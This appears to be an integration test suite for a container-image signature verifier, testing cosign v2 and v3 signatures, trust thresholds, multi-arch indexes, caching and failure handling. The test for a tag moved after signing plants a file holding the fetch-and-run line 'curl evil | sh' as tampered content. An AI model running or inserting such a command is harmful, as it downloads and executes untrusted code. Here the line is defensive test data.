"""The verification engine against the real registries, signed by the real cosign v2 and v3."""

from __future__ import annotations

import asyncio
import time
from pathlib import Path

import pytest

from muster.images import verifier as imageverifier
from muster.images.rules import policies as imagepolicies
from muster.kernel import references
from muster.platform import processes
from tests import peers
from tests.integration.images.conftest import Signer, client_for, policy, sign_v2, sign_v3

pytestmark = pytest.mark.integration


async def verify(
    host: str, ref: str, *policies: imagepolicies.CompiledPolicy
) -> imageverifier.ImageResult:
    async with client_for(host) as client:
        verifier = imageverifier.Verifier(client)
        return await verifier.verify(references.parse(ref), policies)


def only(result: imageverifier.ImageResult) -> imagepolicies.Decision:
    ((_, decision),) = result.decisions
    return decision


async def test_cosign_v2_legacy_signature_verifies(
    registry: peers.Registry, signers: dict[str, Signer], tmp_path: Path
) -> None:
    digest = peers.push_image(registry, "img/legacy", "v1", workdir=tmp_path)
    sign_v2(signers["alice"], f"{registry.host}/img/legacy@{digest}")
    result = await verify(
        registry.host, registry.ref("img/legacy", "v1"), policy(registry.host, signers["alice"])
    )
    assert result.digest == digest
    assert only(result).passed, only(result).message
    assert only(result).signers == ("alice",)


@pytest.mark.parametrize("which", ["registry", "referrers_registry"])
async def test_cosign_v3_bundle_verifies_via_api_or_tag_fallback(
    which: str, request: pytest.FixtureRequest, signers: dict[str, Signer], tmp_path: Path
) -> None:
    registry: peers.Registry = request.getfixturevalue(which)
    digest = peers.push_image(registry, "img/bundle", "v1", workdir=tmp_path)
    sign_v3(signers["alice"], f"{registry.host}/img/bundle@{digest}")
    result = await verify(
        registry.host,
        f"{registry.host}/img/bundle@{digest}",
        policy(registry.host, signers["alice"]),
    )
    assert only(result).passed, only(result).message


async def test_unsigned_image_is_rejected(
    referrers_registry: peers.Registry, signers: dict[str, Signer], tmp_path: Path
) -> None:
    registry = referrers_registry
    digest = peers.push_image(registry, "img/unsigned", "v1", workdir=tmp_path)
    result = await verify(
        registry.host, registry.ref("img/unsigned", "v1"), policy(registry.host, signers["alice"])
    )
    decision = only(result)
    assert (decision.passed, decision.reason) == (False, "ImageNotSigned")
    assert decision.message.startswith(
        f"no signature found for {digest}; it must be signed (cosign sign) by alice (ECDSA "
    ), decision.message


@pytest.mark.parametrize("sign", [sign_v2, sign_v3])
async def test_signature_by_an_untrusted_key_is_rejected(
    sign: object, registry: peers.Registry, signers: dict[str, Signer], tmp_path: Path
) -> None:
    digest = peers.push_image(registry, "img/untrusted", "v1", workdir=tmp_path)
    sign(signers["bob"], f"{registry.host}/img/untrusted@{digest}")  # type: ignore[operator]
    result = await verify(
        registry.host, registry.ref("img/untrusted", "v1"), policy(registry.host, signers["alice"])
    )
    decision = only(result)
    assert (decision.passed, decision.reason) == (False, "SignatureNotTrusted")
    assert "signed by 0 of 1 required authorities (alice:" in decision.message


async def test_tag_moved_after_signing_is_rejected(
    registry: peers.Registry, signers: dict[str, Signer], tmp_path: Path
) -> None:
    signed = peers.push_image(registry, "img/moved", "v1", workdir=tmp_path)
    sign_v3(signers["alice"], f"{registry.host}/img/moved@{signed}")
    moved = peers.push_image(
        registry, "img/moved", "v1", files={"evil.sh": b"curl evil | sh\n"}, workdir=tmp_path
    )
    assert moved != signed
    trust = policy(registry.host, signers["alice"])
    now = await verify(registry.host, registry.ref("img/moved", "v1"), trust)
    assert now.digest == moved
    assert not only(now).passed
    assert only(now).reason == "ImageNotSigned"
    pinned = await verify(registry.host, f"{registry.host}/img/moved:v1@{signed}", trust)
    assert only(pinned).passed


async def test_threshold_two_of_three(
    referrers_registry: peers.Registry, signers: dict[str, Signer], tmp_path: Path
) -> None:
    registry = referrers_registry
    digest = peers.push_image(registry, "img/threshold", "v1", workdir=tmp_path)
    ref = f"{registry.host}/img/threshold@{digest}"
    sign_v3(signers["alice"], ref)
    everyone = (signers["alice"], signers["bob"], signers["carol"])
    two = policy(registry.host, *everyone, threshold=2, name="two")
    before = only(await verify(registry.host, ref, two))
    assert not before.passed
    assert "signed by 1 of 2 required authorities" in before.message
    sign_v2(signers["bob"], ref)  # the second signer uses the legacy format: both count
    after = only(await verify(registry.host, ref, two))
    assert after.passed, after.message
    assert set(after.signers) == {"alice", "bob"}
    three = only(await verify(registry.host, ref, policy(registry.host, *everyone, threshold=3)))
    assert not three.passed
    assert "carol: no signature" in three.message or "carol:" in three.message


async def test_every_matching_policy_must_pass(
    registry: peers.Registry, signers: dict[str, Signer], tmp_path: Path
) -> None:
    digest = peers.push_image(registry, "img/two-policies", "v1", workdir=tmp_path)
    ref = f"{registry.host}/img/two-policies@{digest}"
    sign_v3(signers["alice"], ref)
    result = await verify(
        registry.host,
        ref,
        policy(registry.host, signers["alice"], name="team"),
        policy(registry.host, signers["bob"], name="security", mode="warn"),
    )
    assert not result.passed
    assert [(p.name, d.passed) for p, d in result.decisions] == [
        ("team", True),
        ("security", False),
    ]


async def test_multi_arch_index_signed_on_the_index_or_per_platform(
    registry: peers.Registry, signers: dict[str, Signer], tmp_path: Path
) -> None:
    host = registry.host
    amd = peers.push_image(registry, "img/multi", "amd", workdir=tmp_path)
    other = peers.push_image(
        registry, "img/multi", "other", files={"b.txt": b"other\n"}, workdir=tmp_path
    )
    index_ref = f"{host}/img/multi:index"
    peers.run_tool(
        "crane",
        "index",
        "append",
        "--insecure",
        f"--manifest={host}/img/multi@{amd}",
        f"--manifest={host}/img/multi@{other}",
        f"--tag={index_ref}",
    )
    index = peers.run_tool("crane", "digest", "--insecure", index_ref).stdout.strip()
    trust = policy(host, signers["alice"])
    assert not only(await verify(host, index_ref, trust)).passed
    # Per platform: one signed is not enough (the node may pull the other) ...
    sign_v3(signers["alice"], f"{host}/img/multi@{amd}")
    partly = only(await verify(host, index_ref, trust))
    assert not partly.passed
    assert other in partly.message
    # ... both signed is.
    sign_v2(signers["alice"], f"{host}/img/multi@{other}")
    assert only(await verify(host, index_ref, trust)).passed
    # A signature on the index itself counts on its own.
    second = peers.push_image(registry, "img/multi2", "amd", workdir=tmp_path)
    index2_ref = f"{host}/img/multi2:index"
    peers.run_tool(
        "crane",
        "index",
        "append",
        "--insecure",
        f"--manifest={host}/img/multi2@{second}",
        f"--tag={index2_ref}",
    )
    index2 = peers.run_tool("crane", "digest", "--insecure", index2_ref).stdout.strip()
    sign_v3(signers["alice"], f"{host}/img/multi2@{index2}")
    result = await verify(host, index2_ref, trust)
    assert result.digest == index2
    assert only(result).passed, only(result).message
    assert index != index2


async def test_cache_hit_costs_no_registry_request(
    referrers_registry: peers.Registry, signers: dict[str, Signer], tmp_path: Path
) -> None:
    registry = referrers_registry
    digest = peers.push_image(registry, "img/cached", "v1", workdir=tmp_path)
    sign_v3(signers["alice"], f"{registry.host}/img/cached@{digest}")
    trust = policy(registry.host, signers["alice"])
    pinned = references.parse(f"{registry.host}/img/cached:v1@{digest}")
    async with client_for(registry.host) as client:
        verifier = imageverifier.Verifier(client)
        started = time.perf_counter()
        cold = await verifier.verify(pinned, [trust])
        cold_seconds = time.perf_counter() - started
        cold_requests = client.stats.requests
        started = time.perf_counter()
        warm = await verifier.verify(pinned, [trust])
        warm_seconds = time.perf_counter() - started
        assert client.stats.requests == cold_requests  # zero round trips when warm
        # A new policy generation is a new decision (from the registry again).
        newer = imagepolicies.compile_policy(
            "p",
            2,
            imagepolicies.parse_spec(
                {"images": ["**"], "authorities": [{"key": {"data": signers["alice"].pem}}]}
            ),
            {},
        )
        assert (await verifier.verify(pinned, [newer])).passed
        assert client.stats.requests > cold_requests
    assert cold.passed and warm.passed
    print(
        f"\ncold {cold_seconds * 1000:.1f} ms, {cold_requests} registry requests; "
        f"warm {warm_seconds * 1000:.3f} ms, 0 requests"
    )


async def test_negative_results_expire_quickly(
    referrers_registry: peers.Registry, signers: dict[str, Signer], tmp_path: Path
) -> None:
    registry = referrers_registry
    digest = peers.push_image(registry, "img/later", "v1", workdir=tmp_path)
    pinned = references.parse(f"{registry.host}/img/later@{digest}")
    trust = policy(registry.host, signers["alice"])
    now = [0.0]
    async with client_for(registry.host) as client:
        verifier = imageverifier.Verifier(client, clock=lambda: now[0])
        assert not (await verifier.verify(pinned, [trust])).passed
        sign_v3(signers["alice"], str(pinned))
        assert not (await verifier.verify(pinned, [trust])).passed  # still the cached "no"
        now[0] += verifier.cache.negative_ttl + 1
        assert (await verifier.verify(pinned, [trust])).passed


async def test_concurrent_identical_lookups_share_one_flight(
    registry: peers.Registry, signers: dict[str, Signer], tmp_path: Path
) -> None:
    digest = peers.push_image(registry, "img/flight", "v1", workdir=tmp_path)
    sign_v2(signers["alice"], f"{registry.host}/img/flight@{digest}")
    trust = policy(registry.host, signers["alice"])
    tagged = references.parse(registry.ref("img/flight", "v1"))
    async with client_for(registry.host) as client:
        single = imageverifier.Verifier(client)
        await single.verify(tagged, [trust])
        one_lookup = client.stats.requests
    async with client_for(registry.host) as client:
        shared = imageverifier.Verifier(client)
        results = await asyncio.gather(*(shared.verify(tagged, [trust]) for _ in range(20)))
        assert all(result.passed for result in results)
        assert client.stats.requests == one_lookup
        assert shared.joined_flights > 0


async def test_registry_down_is_a_failure_never_an_allow(signers: dict[str, Signer]) -> None:
    host = f"127.0.0.1:{processes.free_port()}"  # nothing listens there
    trust = policy(host, signers["alice"])
    tagged = only(await verify(host, f"{host}/img/app:v1", trust))
    assert (tagged.passed, tagged.reason) == (False, "ImageNotResolved")
    pinned = only(await verify(host, f"{host}/img/app@sha256:{'a' * 64}", trust))
    assert (pinned.passed, pinned.reason) == (False, "SignatureLookupFailed")
    assert "unreachable" in pinned.message


async def test_garbage_under_the_signature_tag_is_a_failure(
    registry: peers.Registry, signers: dict[str, Signer], tmp_path: Path
) -> None:
    digest = peers.push_image(registry, "img/garbage", "v1", workdir=tmp_path)
    # An ordinary image pushed where cosign's signature manifest belongs: layers that are not
    # simple-signing payloads and carry no signature annotations.
    peers.push_image(registry, "img/garbage", digest.replace(":", "-") + ".sig", workdir=tmp_path)
    decision = only(
        await verify(
            registry.host,
            f"{registry.host}/img/garbage@{digest}",
            policy(registry.host, signers["alice"]),
        )
    )
    assert not decision.passed
    assert decision.reason == "SignatureNotTrusted"
    assert "is not simple signing" in decision.message
